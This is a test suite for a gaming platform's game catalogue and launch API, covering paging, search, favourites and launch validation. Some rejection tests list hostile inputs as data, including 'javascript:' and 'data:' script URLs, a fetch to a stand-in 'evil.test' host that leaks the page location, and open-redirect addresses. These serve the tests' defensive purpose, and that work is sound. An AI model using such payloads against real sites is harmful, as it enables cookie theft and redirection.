import { launchSigningText, WHITELABEL } from '@parlay/contract';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../../test/app';
import { signInTestMember } from '../../test/members';
import {
  callWallet,
  createFundedPlayer,
  installTestVendor,
  launchFor,
  TEST_VENDOR_SECRET,
  testVendorFeed,
} from '../seamless-wallet/seamless-wallet.fixtures';
import { signBody } from '../vendors/index';
import { CatalogueService } from './catalogue.service';

describe(CatalogueService.name, () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp();
    await installTestVendor(t.app, 'TESTV', 60);
  }, 180_000);
  afterAll(async () => {
    await t.close();
  }, 60_000);

  const get = async (url: string, authorization?: string) => {
    const response = await t.app.inject({ method: 'GET', url, headers: authorization ? { authorization } : {} });
    return { status: response.statusCode, body: response.json() };
  };

  describe('GCSGAME_gameVendor', () => {
    type Lanes = { title: string; cards: { vassalage: string; status: string }[] }[];
    const lanesNow = async () => (await get('/wps/relay/GCSGAME_gameVendor')).body.value.data.lanes as Lanes;
    /** Switches the brand's "coming soon" flag as an operator does (the brand's settings), for the body's length. */
    const withComingSoon = async (body: () => Promise<void>) => {
      const switchTo = async (enabled: boolean) => {
        const merchant = await t.app.merchants.resolveByHost('localhost');
        await t.app.admin.merchants.setFlag(
          { kind: 'cli', osUser: 'test' },
          merchant.code,
          WHITELABEL.COMING_SOON_CATEGORIES,
          enabled,
        );
        t.app.merchants.invalidate();
      };
      await switchTo(true);
      try {
        await body();
      } finally {
        await switchTo(false);
      }
    };

    it('answers one lane per category with the vendors of that category that have a game to play', async () => {
      const { body } = await get('/wps/relay/GCSGAME_gameVendor?merchantCode=parlay');
      const lanes = body.value.data.lanes as Lanes;
      expect(lanes.find((lane) => lane.title === 'RNG')?.cards.map((card) => card.vassalage)).toContain('TESTV');
      expect(lanes.find((lane) => lane.title === 'LIVE')?.cards.map((card) => card.vassalage)).toContain('TESTV');
      // The demo's DS88 is in maintenance: its sports lane is not shown at all.
      expect(lanes.map((lane) => lane.title)).not.toContain('SPORTS');
      expect(lanes.flatMap((lane) => lane.cards).every((card) => card.status === 'active')).toBe(true);
    });

    it('lists a vendor whose games are all in maintenance as coming soon only when the brand asks', async () => {
      await withComingSoon(async () => {
        expect((await lanesNow()).find((lane) => lane.title === 'SPORTS')?.cards).toEqual([
          expect.objectContaining({ vassalage: 'DS88', status: 'maintenance' }),
        ]);
      });
      expect((await lanesNow()).map((lane) => lane.title)).not.toContain('SPORTS');
    });

    it('shows a newly imported vendor at once: the cache follows the catalogue version', async () => {
      const before = await get('/wps/relay/GCSGAME_gameVendor');
      const feed = testVendorFeed('FISHV', 1);
      await t.app.gaming.catalogueSync.writeFeed({
        vendor: { ...feed.vendor, gameTypes: ['FISH'] },
        games: feed.games.map((game) => ({ ...game, gameType: 'FISH' as const })),
      });
      const after = await get('/wps/relay/GCSGAME_gameVendor');
      expect(after.body.value.version).toBeGreaterThan(before.body.value.version);
      const fish = (after.body.value.data.lanes as { title: string; cards: { vassalage: string }[] }[]).find(
        (lane) => lane.title === 'FISH',
      );
      expect(fish?.cards.map((card) => card.vassalage)).toEqual(['FISHV']);
    });

    it('leaves out a category whose every game went into maintenance, and keeps the vendor in its others', async () => {
      const feed = testVendorFeed('HALFV', 2);
      await t.app.gaming.catalogueSync.writeFeed({
        vendor: { ...feed.vendor, gameTypes: ['SPORTS', 'FISH'] },
        games: feed.games.map(({ liveClass: _, ...game }, index) => ({
          ...game,
          gameType: index === 0 ? ('SPORTS' as const) : ('FISH' as const),
          ...(index === 0 ? { status: 'maintenance' as const } : {}),
        })),
      });
      const cardsOf = (lanes: Lanes, title: string) =>
        lanes.find((lane) => lane.title === title)?.cards.filter((card) => card.vassalage === 'HALFV') ?? [];
      const lanes = await lanesNow();
      expect(cardsOf(lanes, 'FISH')).toEqual([expect.objectContaining({ status: 'active' })]);
      expect(cardsOf(lanes, 'SPORTS')).toEqual([]);
      await withComingSoon(async () => {
        expect(cardsOf(await lanesNow(), 'SPORTS')).toEqual([expect.objectContaining({ status: 'maintenance' })]);
      });
    });
  });

  describe('GCSGAME_gameList', () => {
    it('pages the games of a vendor in order, by pageNo and by keyset cursor alike', async () => {
      const first = await get(
        '/wps/relay/GCSGAME_gameList?clientType=3&platform=flash,html5-desktop&pageNo=1&pageSize=24&vassalage=TESTV&gameType=RNG',
      );
      expect(first.status).toBe(200);
      expect(first.body.value).toMatchObject({ pageNum: 1, total: 30, totalPages: 2 });
      expect(first.body.value.games).toHaveLength(24);
      expect(first.body.value.games[0]).toMatchObject({
        vassalage: 'TESTV',
        code: 'G1',
        gameType: 'RNG',
        supportPlay: 0,
        status: 'active',
      });
      const byOffset = await get('/wps/relay/GCSGAME_gameList?pageNo=2&pageSize=24&vassalage=TESTV&gameType=RNG');
      const byCursor = await get(
        `/wps/relay/GCSGAME_gameList?pageNo=2&pageSize=24&vassalage=TESTV&gameType=RNG&cursor=${first.body.value.nextCursor}`,
      );
      expect(byCursor.body.value.games.map((game: { code: string }) => game.code)).toEqual(
        byOffset.body.value.games.map((game: { code: string }) => game.code),
      );
      expect(byOffset.body.value.games).toHaveLength(6);
      expect(byOffset.body.value.nextCursor).toBeNull();
    });

    it('opens every page by number at the games the cursor reaches it with, for any page size', async () => {
      const codesOf = (body: { value: { games: { code: string }[] } }) => body.value.games.map((game) => game.code);
      for (const pageSize of [7, 24]) {
        const list = `/wps/relay/GCSGAME_gameList?vassalage=TESTV&pageSize=${pageSize}`;
        let cursor: string | null = null;
        for (let pageNo = 1; pageNo <= Math.ceil(60 / pageSize); pageNo++) {
          const byCursor = await get(`${list}&pageNo=${pageNo}${cursor ? `&cursor=${cursor}` : ''}`);
          const byNumber = await get(`${list}&pageNo=${pageNo}`);
          expect(codesOf(byNumber.body)).toEqual(codesOf(byCursor.body));
          expect(byNumber.body.value.nextCursor).toBe(byCursor.body.value.nextCursor);
          cursor = byCursor.body.value.nextCursor;
        }
        expect(cursor).toBeNull();
        const past = await get(`${list}&pageNo=${Math.ceil(60 / pageSize) + 1}`);
        expect(past.body.value.games).toEqual([]);
      }
    });

    it('opens a page by number at its new games once the catalogue changes', async () => {
      const base = testVendorFeed('PAGEV', 30);
      const feed = {
        ...base,
        games: base.games.map(({ liveClass: _, ...game }) => ({ ...game, gameType: 'RNG' as const })),
      };
      await t.app.gaming.catalogueSync.writeFeed(feed);
      const pageTwo = async () => {
        const { body } = await get('/wps/relay/GCSGAME_gameList?vassalage=PAGEV&pageSize=10&pageNo=2');
        return (body.value.games as { code: string }[]).map((game) => game.code);
      };
      expect(await pageTwo()).toEqual(['G11', 'G12', 'G13', 'G14', 'G15', 'G16', 'G17', 'G18', 'G19', 'G20']);
      // The vendor withdraws G1: page 2 now starts one game later.
      await t.app.gaming.catalogueSync.writeFeed({
        ...feed,
        games: feed.games.map((game) => (game.code === 'G1' ? { ...game, status: 'disabled' as const } : game)),
      });
      expect(await pageTwo()).toEqual(['G12', 'G13', 'G14', 'G15', 'G16', 'G17', 'G18', 'G19', 'G20', 'G21']);
    });

    it('searches by name regardless of case and treats % as a letter', async () => {
      const found = await get('/wps/relay/GCSGAME_gameList?gameName=TEST%20game%2059');
      expect(found.body.value.games.map((game: { code: string }) => game.code)).toEqual(['G59']);
      const wildcard = await get('/wps/relay/GCSGAME_gameList?gameName=%25');
      expect(wildcard.body.value.total).toBe(0);
    });

    it('finds a game by part of a Korean name, by two letters, and treats _ as a letter', async () => {
      await t.app.gaming.catalogueSync.writeFeed({
        ...testVendorFeed('NAMEV', 0),
        games: ['드래곤 타이거', 'Lucky_Seven', 'Lucky Seven'].map((gameName, index) => ({
          ...testVendorFeed('NAMEV', 1).games[0]!,
          code: `N${index + 1}`,
          gameName,
        })),
      });
      const codes = async (text: string) => {
        const { body } = await get(`/wps/relay/GCSGAME_gameList?vassalage=NAMEV&gameName=${encodeURIComponent(text)}`);
        return (body.value.games as { code: string }[]).map((game) => game.code);
      };
      expect(await codes('타이거')).toEqual(['N1']);
      expect(await codes('y_')).toEqual(['N2']);
      expect(await codes('LUCKY')).toEqual(['N2', 'N3']);
      // Text of one or two characters makes no trigram, and still finds the same names.
      expect(await codes('타이')).toEqual(['N1']);
      expect(await codes('Y')).toEqual(['N2', 'N3']);
      expect(await codes('_')).toEqual(['N2']);
      expect(await codes('ys')).toEqual([]);
    });

    it('has the name search served by a trigram index, not by reading every game', async () => {
      // The planner may still scan a small table; with scans off it must find an index for the predicate.
      const plan = await t.database.handle.db.transaction(async (tx) => {
        await tx.execute(sql`SET LOCAL enable_seqscan = off`);
        const result: unknown = await tx.execute(
          sql`EXPLAIN SELECT id FROM games g WHERE g.name_key LIKE ${'%test game 59%'}`,
        );
        return (result as { rows: Record<string, string>[] }).rows.map((row) => Object.values(row)[0]).join('\n');
      });
      expect(plan).toContain('games_name_key_trgm_idx');
    });

    it('filters live games by class', async () => {
      const live = await get('/wps/relay/GCSGAME_gameList?gameType=LIVE&liveClass=BAC&pageSize=100');
      expect(live.body.value.total).toBe(30);
      const none = await get('/wps/relay/GCSGAME_gameList?gameType=LIVE&liveClass=ROU');
      expect(none.body.value.total).toBe(0);
    });

    it('lists the games a stake and a number of lines can start, and those that set no minimum', async () => {
      await t.app.gaming.catalogueSync.writeFeed({
        ...testVendorFeed('MINV', 0),
        games: [
          { minBet: 100, minLineNum: 1 },
          { minBet: 1_000, minLineNum: 20 },
          { minBet: 5_000, minLineNum: 5 },
          {},
        ].map((minimum, index) => ({ ...testVendorFeed('MINV', 1).games[0]!, code: `M${index + 1}`, ...minimum })),
      });
      const codes = async (filter: string) => {
        const { status, body } = await get(`/wps/relay/GCSGAME_gameList?vassalage=MINV&${filter}`);
        expect(status).toBe(200);
        return (body.value.games as { code: string }[]).map((game) => game.code);
      };
      expect(await codes('minBet=1000')).toEqual(['M1', 'M2', 'M4']);
      expect(await codes('minLineNum=5')).toEqual(['M1', 'M3', 'M4']);
      expect(await codes('minBet=1000&minLineNum=5')).toEqual(['M1', 'M4']);
      expect(await codes('minBet=0&minLineNum=0')).toEqual(['M4']);
    });

    it('refuses an unknown game type and a forged cursor', async () => {
      const type = await get('/wps/relay/GCSGAME_gameList?gameType=CASINO');
      expect(type.status).toBe(400);
      expect(type.body.code).toBe('VALIDATION_FAILED');
      const cursor = await get('/wps/relay/GCSGAME_gameList?cursor=not-a-cursor');
      expect(cursor.status).toBe(400);
      expect(cursor.body.code).toBe('GAME_CURSOR_INVALID');
    });
  });

  describe('hot games, menus, vendor types, rooms', () => {
    it('lists only hot games', async () => {
      const { body } = await get(
        '/wps/relay/GCSGAME_hotGamesV2?merchantCode=parlay&isPlatform=2&platform=flash,html5-desktop&vassalage=TESTV',
      );
      expect(body.value.list.map((game: { code: string }) => game.code)).toEqual(['G1']);
    });

    it('answers the lottery menu from the ELOTT and LOTT vendors', async () => {
      const { body } = await get('/lgw/games/game_menus');
      expect(body.value.list).toEqual([
        expect.objectContaining({
          gameGroupCode: 'TCG_SEA',
          gameMenus: expect.arrayContaining([expect.objectContaining({ code: 'SEA_LOTTO' })]),
        }),
      ]);
    });

    it("names each lottery's account type from its feed, and a game's vendor when the feed names none", async () => {
      const { body } = await get('/lgw/games/game_menus');
      const lotteries = (body.value.list as { gameMenus: { code: string; accountTypeName: string }[] }[]).flatMap(
        (menu) => menu.gameMenus.map((game) => [game.code, game.accountTypeName]),
      );
      // The demo's Vietnam lottery opens on /vnlottery, its SEA lottery on /seaLottery
      // (docs/product/games-and-wallet.md#lottery).
      expect(lotteries).toEqual([
        ['SEA_LOTTO', 'SEA'],
        ['VN_LOTTO', 'VN'],
      ]);
      const list = await get('/wps/relay/GCSGAME_gameList?vassalage=TESTV&pageNo=1&pageSize=24');
      expect(new Set(list.body.value.games.map((game: { accountTypeName: string }) => game.accountTypeName))).toEqual(
        new Set(['TESTV']),
      );
    });

    it('answers each vendor with its game types', async () => {
      const { body } = await get('/wps/relay/GCSGAME_getVassGameType');
      expect(body.value.list).toContainEqual(
        expect.objectContaining({ vassalage: 'TESTV', gameTypes: ['RNG', 'LIVE'] }),
      );
    });

    it('answers PVP rooms only to a member', async () => {
      expect((await get('/wps/relay/GLS2_roomList')).status).toBe(401);
      const { authorization } = await signInTestMember(t.app);
      const { body } = await get('/wps/relay/GLS2_roomList', authorization);
      expect(body.value.list).toEqual([]);
    });

    it('answers every PVP room, past the largest page of a list', async () => {
      const feed = testVendorFeed('ROOMS', 130);
      await t.app.gaming.catalogueSync.writeFeed({
        vendor: { ...feed.vendor, gameTypes: ['PVP'] },
        games: feed.games.map((game) => ({ ...game, gameType: 'PVP' as const, liveClass: undefined })),
      });
      const { authorization } = await signInTestMember(t.app);
      const { body } = await get('/wps/relay/GLS2_roomList', authorization);
      expect(body.value.list.map((room: { gameCode: string }) => room.gameCode)).toEqual(
        feed.games.map((game) => game.code),
      );
    });
  });

  describe('favourites and recent games', () => {
    it('adds, lists and removes a favourite', async () => {
      const { authorization } = await signInTestMember(t.app);
      const { body: list } = await get('/wps/relay/GCSGAME_gameList?vassalage=TESTV&pageSize=2');
      const gameId = list.value.games[1].id as number;
      const added = await t.app.inject({
        method: 'POST',
        url: '/wps/relay/MCSFE_addFavoriteGame',
        headers: { authorization },
        payload: { gameId },
      });
      expect(added.json().value.gameIds).toEqual([gameId]);
      const games = await get('/wps/relay/MCSFE_getFavoriteGamesList', authorization);
      expect(games.body.value.list.map((game: { id: number }) => game.id)).toEqual([gameId]);
      await t.app.inject({
        method: 'POST',
        url: '/wps/relay/MCSFE_removeFavoriteGame',
        headers: { authorization },
        payload: { gameId },
      });
      expect((await get('/wps/relay/MCSFE_getFavoriteGames', authorization)).body.value.gameIds).toEqual([]);
    });

    it('refuses a favourite of an unknown game and a visitor', async () => {
      const { authorization } = await signInTestMember(t.app);
      const unknown = await t.app.inject({
        method: 'POST',
        url: '/wps/relay/MCSFE_addFavoriteGame',
        headers: { authorization },
        payload: { gameId: 987654 },
      });
      expect(unknown.json().code).toBe('GAME_NOT_FOUND');
      const visitor = await t.app.inject({
        method: 'POST',
        url: '/wps/relay/MCSFE_addFavoriteGame',
        payload: { gameId: 1 },
        headers: { language: 'EN' },
      });
      expect(visitor.statusCode).toBe(401);
      expect(visitor.json().message).toBe('Sorry, you are not logged in yet, please log in.');
    });

    it('lists a launched game first among recent games', async () => {
      const { authorization } = await signInTestMember(t.app);
      await launchFor(t.app, authorization, { gameCode: 'G3' });
      await launchFor(t.app, authorization, { gameCode: 'G5' });
      const { body } = await get('/wps/relay/GCS_recentGame', authorization);
      expect(body.value.list.map((game: { code: string }) => game.code)).toEqual(['G5', 'G3']);
    });
  });

  describe('launchGame', () => {
    it('asks a visitor to sign in', async () => {
      const response = await t.app.inject({ method: 'POST', url: '/wps/game/launchGame', payload: { gameId: 1 } });
      expect(response.statusCode).toBe(401);
      expect(response.json().code).toBe('NOT_LOGGED_IN');
    });

    it('answers the vendor URL with the launch parameters for a member', async () => {
      const { authorization, member } = await signInTestMember(t.app);
      const launch = await launchFor(t.app, authorization);
      expect(launch.url.origin).toBe('https://testv.vendor.test');
      expect(launch.playerId).toBe(String(member.id));
      expect(launch.sessionToken).toMatch(/^[\w-]{43}$/);
      expect(launch.url.searchParams.get('mode')).toBe('real');
    });

    it("answers 'Game maintenance' for a game whose vendor is down", async () => {
      const { authorization } = await signInTestMember(t.app);
      const { body } = await get('/wps/relay/GCSGAME_gameList?vassalage=DS88');
      const response = await t.app.inject({
        method: 'POST',
        url: '/wps/game/launchGame',
        headers: { authorization, language: 'EN' },
        payload: {
          gameId: body.value.games[0].id,
          accountType: 1,
          confirmTrans: 0,
          launchMode: 'GLS',
          platform: 'html5-desktop',
          clientType: 3,
        },
      });
      expect(response.statusCode).toBe(503);
      expect(response.json()).toMatchObject({
        code: 'GAME_MAINTENANCE',
        message: 'Game maintenance. Please try other games.',
      });
    });

    it('launches a room only of a PVP game: a roomId naming another game is not a room', async () => {
      const { authorization } = await signInTestMember(t.app);
      const { body } = await get('/wps/relay/GCSGAME_gameList?vassalage=TESTV&gameType=RNG');
      const slot = body.value.games.find((game: { status: string }) => game.status === 'active') as { id: number };
      const launch = (payload: Record<string, unknown>) =>
        t.app.inject({ method: 'POST', url: '/wps/game/launchGame', headers: { authorization }, payload });
      const asRoom = await launch({ roomId: slot.id });
      expect([asRoom.statusCode, asRoom.json().code]).toEqual([404, 'GAME_NOT_FOUND']);
      expect((await launch({ gameId: slot.id })).statusCode).toBe(200);
    });

    describe('the launch payload (docs/product/games-and-wallet.md#game-launch)', () => {
      const SITE = 'site.test:8080';
      const launch = async (authorization: string, payload: Record<string, unknown>) => {
        const response = await t.app.inject({
          method: 'POST',
          url: '/wps/game/launchGame',
          headers: { authorization, host: SITE, language: 'EN' },
          payload,
        });
        return { status: response.statusCode, body: response.json() };
      };
      const recentIds = async (authorization: string) =>
        ((await get('/wps/relay/GCS_recentGame', authorization)).body.value.list as { id: number }[]).map(
          (game) => game.id,
        );

      it("passes a lottery launch's area, prize mode, view, device and back address on to the vendor, signed", async () => {
        const { authorization } = await signInTestMember(t.app);
        const { status, body } = await launch(authorization, {
          gameCode: 'G1',
          vassalage: 'TESTV',
          launchMode: 'LOTT',
          lottoArea: 'VN',
          prizeMode: 'Elott',
          lottoView: 'betting',
          device: 'WEB',
          backUrl: `http://${SITE}/elott`,
        });
        expect(status).toBe(200);
        const url = new URL(body.value.game_url);
        const params = Object.fromEntries(url.searchParams);
        expect(params).toMatchObject({
          lottoArea: 'VN',
          prizeMode: 'Elott',
          lottoView: 'betting',
          device: 'WEB',
          backUrl: `http://${SITE}/elott`,
        });
        // The vendor can trust them: the signature covers each.
        expect(params.signature).toBe(signBody(TEST_VENDOR_SECRET, launchSigningText(params)));
        for (const name of ['lottoArea', 'prizeMode', 'lottoView', 'device', 'backUrl']) {
          expect(launchSigningText(params)).toContain(`${name}=`);
        }
      });

      it('passes no lottery fields on for a game launch, and the back address when given', async () => {
        const { authorization } = await signInTestMember(t.app);
        const { body } = await launch(authorization, {
          gameCode: 'G1',
          vassalage: 'TESTV',
          prizeMode: 'Lott',
          backUrl: `https://${SITE}/rng`,
        });
        const params = new URL(body.value.game_url).searchParams;
        expect(params.get('prizeMode')).toBeNull();
        expect(params.get('backUrl')).toBe(`https://${SITE}/rng`);
      });

      it('refuses a back address off the site the member launched from, and opens nothing', async () => {
        const { authorization } = await signInTestMember(t.app);
        for (const backUrl of [
          'https://evil.test/elott',
          'http://site.test.evil.test:8080/',
          'http://site.test/elott',
        ]) {
          const { status, body } = await launch(authorization, { gameCode: 'G1', vassalage: 'TESTV', backUrl });
          expect({ status, code: body.code, message: body.message }).toEqual({
            status: 400,
            code: 'GAME_BACK_URL_INVALID',
            message: 'The return address must be on this site.',
          });
        }
        for (const backUrl of ['javascript:alert(1)', '/elott', `ftp://${SITE}/`]) {
          const { status, body } = await launch(authorization, { gameCode: 'G1', vassalage: 'TESTV', backUrl });
          expect({ status, code: body.code }).toEqual({ status: 400, code: 'VALIDATION_FAILED' });
        }
        expect(await recentIds(authorization)).toEqual([]);
      });

      it('refuses a prize mode the brand does not offer, or that no brand has, and opens nothing', async () => {
        const { authorization } = await signInTestMember(t.app);
        const merchant = await t.app.merchants.resolveByHost(SITE);
        const config = { ...merchant.brand, prizeModes: ['SEA'] };
        const { rows } = (await t.app.db.execute(sql`SELECT config FROM merchants WHERE id = ${merchant.id}`)) as {
          rows: { config: unknown }[];
        };
        const before = rows[0]?.config;
        await t.app.db.execute(
          sql`UPDATE merchants SET config = ${JSON.stringify(config)}::jsonb WHERE id = ${merchant.id}`,
        );
        t.app.merchants.invalidate();
        try {
          const lottery = { gameCode: 'G1', vassalage: 'TESTV', launchMode: 'LOTT' };
          const refused = await launch(authorization, { ...lottery, prizeMode: 'Lott' });
          expect({ status: refused.status, code: refused.body.code, message: refused.body.message }).toEqual({
            status: 422,
            code: 'GAME_PRIZE_MODE_UNAVAILABLE',
            message: 'This site does not offer that prize mode.',
          });
          const unknown = await launch(authorization, { ...lottery, prizeMode: 'Bogus' });
          expect({ status: unknown.status, code: unknown.body.code }).toEqual({
            status: 400,
            code: 'VALIDATION_FAILED',
          });
          expect(await recentIds(authorization)).toEqual([]);
          expect((await launch(authorization, { ...lottery, prizeMode: 'SEA' })).status).toBe(200);
        } finally {
          await t.app.db.execute(
            sql`UPDATE merchants SET config = ${JSON.stringify(before)}::jsonb WHERE id = ${merchant.id}`,
          );
          t.app.merchants.invalidate();
        }
      });

      it("launches when the nodeId and vassalage are the game's own, and refuses others", async () => {
        const { authorization } = await signInTestMember(t.app);
        const { body: list } = await get('/wps/relay/GCSGAME_gameList?vassalage=TESTV&gameType=RNG');
        const game = (list.value.games as { id: number; nodeId: number; vassalage: string; status: string }[]).find(
          (entry) => entry.status === 'active',
        );
        if (!game) throw new Error('no active TESTV game');
        for (const wrong of [
          { nodeId: game.nodeId + 1 },
          { vassalage: 'DS88' },
          { nodeId: game.nodeId, vassalage: 'X' },
        ]) {
          const { status, body } = await launch(authorization, { gameId: game.id, ...wrong });
          expect({ status, code: body.code }).toEqual({ status: 400, code: 'GAME_LAUNCH_MISMATCH' });
        }
        expect(await recentIds(authorization)).toEqual([]);
        const { status } = await launch(authorization, {
          gameId: game.id,
          nodeId: game.nodeId,
          vassalage: game.vassalage,
        });
        expect(status).toBe(200);
      });
    });

    it('refuses a launch that names no game', async () => {
      const { authorization } = await signInTestMember(t.app);
      const response = await t.app.inject({
        method: 'POST',
        url: '/wps/game/launchGame',
        headers: { authorization },
        payload: {},
      });
      expect(response.json().code).toBe('GAME_LAUNCH_TARGET_MISSING');
    });

    describe('addresses with a scheme other than https (decision 0028)', () => {
      const BAD_ADDRESSES = [
        'javascript:alert(document.cookie)//',
        'JavaScript:fetch(`//evil.test?${location}`)',
        'data:text/html,<script>alert(1)</script>',
        'vbscript:msgbox(1)',
        'http://games.vendor.example/launch',
      ];
      const vendorAddresses = async (code: string) => {
        const result = (await t.app.db.execute(
          sql`SELECT v.launch_url, v.small_icon, g.code, g.game_name, g.show_icon
                FROM game_vendors v JOIN games g ON g.vendor_id = v.id WHERE v.code = ${code} ORDER BY g.id`,
        )) as { rows: Record<string, string>[] };
        return result.rows;
      };

      it('refuses a feed that names one, at its field, and changes nothing of the catalogue', async () => {
        const before = await vendorAddresses('TESTV');
        const fields: [string, (feed: ReturnType<typeof testVendorFeed>, value: string) => void][] = [
          ['vendor.launchUrl', (feed, value) => (feed.vendor.launchUrl = value)],
          ['vendor.smallIcon', (feed, value) => (feed.vendor.smallIcon = value)],
          ['vendor.catalogueUrl', (feed, value) => (feed.vendor.catalogueUrl = value)],
          ['games.1.showIcon', (feed, value) => (feed.games[1]!.showIcon = value)],
        ];
        for (const [path, write] of fields) {
          for (const value of BAD_ADDRESSES) {
            const feed = testVendorFeed('TESTV', 60);
            feed.games[0]!.gameName = 'Renamed by a refused feed';
            write(feed, value);
            await expect(t.app.gaming.catalogueSync.importFeed(feed), `${path} ${value}`).rejects.toMatchObject({
              code: 'GAME_FEED_INVALID',
              value: { issues: [{ path, message: expect.stringMatching(/^must be an https: URL/) }] },
            });
          }
        }
        const newcomer = testVendorFeed('SCHEMEV', 1);
        newcomer.vendor.launchUrl = 'javascript:alert(1)';
        await expect(t.app.gaming.catalogueSync.importFeed(newcomer)).rejects.toMatchObject({
          code: 'GAME_FEED_INVALID',
        });
        expect(await t.app.gaming.catalogueSync.hasVendor('SCHEMEV')).toBe(false);
        expect(await vendorAddresses('TESTV')).toEqual(before);
        const { authorization } = await signInTestMember(t.app);
        expect((await launchFor(t.app, authorization)).url.origin).toBe('https://testv.vendor.test');
      });

      it('refuses to launch a game whose stored launch address has one, and opens no session', async () => {
        await installTestVendor(t.app, 'OLDV', 1);
        const { authorization } = await signInTestMember(t.app);
        for (const value of BAD_ADDRESSES) {
          // A row written before feeds were checked.
          await t.app.db.execute(sql`UPDATE game_vendors SET launch_url = ${value} WHERE code = 'OLDV'`);
          const response = await t.app.inject({
            method: 'POST',
            url: '/wps/game/launchGame',
            headers: { authorization, language: 'EN' },
            payload: { gameCode: 'G1', vassalage: 'OLDV' },
          });
          expect({ status: response.statusCode, body: response.json() }, value).toEqual({
            status: 503,
            body: {
              success: false,
              code: 'GAME_LAUNCH_URL_INVALID',
              message: "This game cannot be opened: its vendor's address is not allowed. Please try other games.",
            },
          });
          expect(response.body).not.toContain('sessionToken');
        }
        const sessions = (await t.app.db.execute(
          sql`SELECT count(*)::int AS n FROM game_sessions s JOIN game_vendors v ON v.id = s.vendor_id
               WHERE v.code = 'OLDV'`,
        )) as { rows: { n: number }[] };
        expect(sessions.rows[0]?.n).toBe(0);
        expect((await get('/wps/relay/GCS_recentGame', authorization)).body.value.list).toEqual([]);
      });
    });
  });

  describe('bad input', () => {
    const expectRefused = (response: { status: number; body: { code: string } }, code: string) => {
      expect({ status: response.status, code: response.body.code }).toEqual({ status: 400, code });
    };

    it('refuses a NUL character in the name search or the classification with 400, not a database error', async () => {
      expectRefused(await get('/wps/relay/GCSGAME_gameList?gameName=%00'), 'VALIDATION_FAILED');
      expectRefused(await get('/wps/relay/GCSGAME_gameList?gameName=a%00b'), 'VALIDATION_FAILED');
      expectRefused(await get('/wps/relay/GCSGAME_gameList?gameClassify=%00'), 'VALIDATION_FAILED');
    });

    it('refuses a number of lines past what a game can set with 400, not a database error', async () => {
      expectRefused(await get('/wps/relay/GCSGAME_gameList?minLineNum=2147483648'), 'VALIDATION_FAILED');
      expectRefused(await get('/wps/relay/GCSGAME_gameList?minLineNum=9007199254740991'), 'VALIDATION_FAILED');
      expect((await get('/wps/relay/GCSGAME_gameList?minLineNum=2147483647')).status).toBe(200);
    });

    it('refuses a cursor whose position is past any display order as GAME_CURSOR_INVALID', async () => {
      for (const cursor of ['zzzzzzzz.1', '-zzzzzzzz.1', 'zik0zk.1', '-zik0zl.1']) {
        expectRefused(await get(`/wps/relay/GCSGAME_gameList?cursor=${cursor}`), 'GAME_CURSOR_INVALID');
        expectRefused(await get(`/wps/relay/GCSGAME_gameList?cursor=${cursor}&gameName=a`), 'GAME_CURSOR_INVALID');
      }
      // 2^31 - 1 is still a display order.
      expect((await get('/wps/relay/GCSGAME_gameList?cursor=zik0zj.1')).status).toBe(200);
    });

    it('refuses a game id that is a boolean or an array and changes no favourite', async () => {
      const { authorization } = await signInTestMember(t.app);
      const { body: list } = await get('/wps/relay/GCSGAME_gameList?vassalage=TESTV&pageSize=1');
      const gameId = list.value.games[0].id as number;
      for (const url of ['/wps/relay/MCSFE_addFavoriteGame', '/wps/relay/MCSFE_removeFavoriteGame']) {
        for (const payload of [{ gameId: true }, { gameId: [gameId] }, { gameId: '0x1' }]) {
          const response = await t.app.inject({ method: 'POST', url, headers: { authorization }, payload });
          expectRefused({ status: response.statusCode, body: response.json() }, 'VALIDATION_FAILED');
        }
      }
      expect((await get('/wps/relay/MCSFE_getFavoriteGames', authorization)).body.value.gameIds).toEqual([]);
      // A numeric string still names the game, as query strings do.
      const added = await t.app.inject({
        method: 'POST',
        url: '/wps/relay/MCSFE_addFavoriteGame',
        headers: { authorization },
        payload: { gameId: String(gameId) },
      });
      expect(added.json().value.gameIds).toEqual([gameId]);
    });

    it('refuses a launch whose game id is an array, or whose vendor has a NUL, and opens nothing', async () => {
      const { authorization } = await signInTestMember(t.app);
      const { body: list } = await get('/wps/relay/GCSGAME_gameList?vassalage=TESTV&pageSize=1');
      const gameId = list.value.games[0].id as number;
      const launch = async (payload: Record<string, unknown>) => {
        const response = await t.app.inject({
          method: 'POST',
          url: '/wps/game/launchGame',
          headers: { authorization },
          payload,
        });
        return { status: response.statusCode, body: response.json() };
      };
      expectRefused(await launch({ gameId: [gameId] }), 'VALIDATION_FAILED');
      expectRefused(await launch({ gameId, clientType: true }), 'VALIDATION_FAILED');
      expectRefused(await launch({ gameCode: 'G1', vassalage: 'TES\u0000TV' }), 'VALIDATION_FAILED');
      expectRefused(
        await get('/wps/game/launchGame?gameCode=G1&vassalage=TES%00TV', authorization),
        'VALIDATION_FAILED',
      );
      expect((await get('/wps/relay/GCS_recentGame', authorization)).body.value.list).toEqual([]);
      // The query form still launches by a numeric id.
      expect((await get(`/wps/game/launchGame?gameId=${gameId}&playMode=trial`, authorization)).status).toBe(200);
    });
  });

  describe('GCSGAME_getRankList', () => {
    it('shows the biggest settled win with a masked account', async () => {
      const { authorization, member } = await createFundedPlayer(t.app, 1_000);
      const launch = await launchFor(t.app, authorization);
      const base = { playerId: launch.playerId, currency: 'KRW', gameCode: 'G1', roundId: 'rank-round' };
      await callWallet(t.app, 'debit', {
        ...base,
        requestId: 'rank-1',
        sessionToken: launch.sessionToken,
        transactionId: 'rank-d',
        amountMinor: 100,
      });
      await callWallet(t.app, 'credit', { ...base, requestId: 'rank-2', transactionId: 'rank-c', amountMinor: 77_777 });
      const { body } = await get('/wps/relay/GCSGAME_getRankList');
      const { body: list } = await get('/wps/relay/GCSGAME_gameList?vassalage=TESTV&pageSize=100');
      const played = (list.value.games as { id: number; code: string; gameType: string }[]).find(
        (game) => game.code === 'G1',
      );
      // The game's id and type: the lobby's board opens the game from its entry.
      expect(body.value.list[0]).toMatchObject({
        winMinor: 77_777,
        gameName: 'Test Game 1',
        vassalage: 'TESTV',
        gameId: played?.id,
        gameType: played?.gameType,
        currency: 'KRW',
      });
      expect(body.value.list[0].account).not.toBe(member.account);
      expect(body.value.list[0].account.slice(0, 2)).toBe(member.account.slice(0, 2));
    });
  });
});
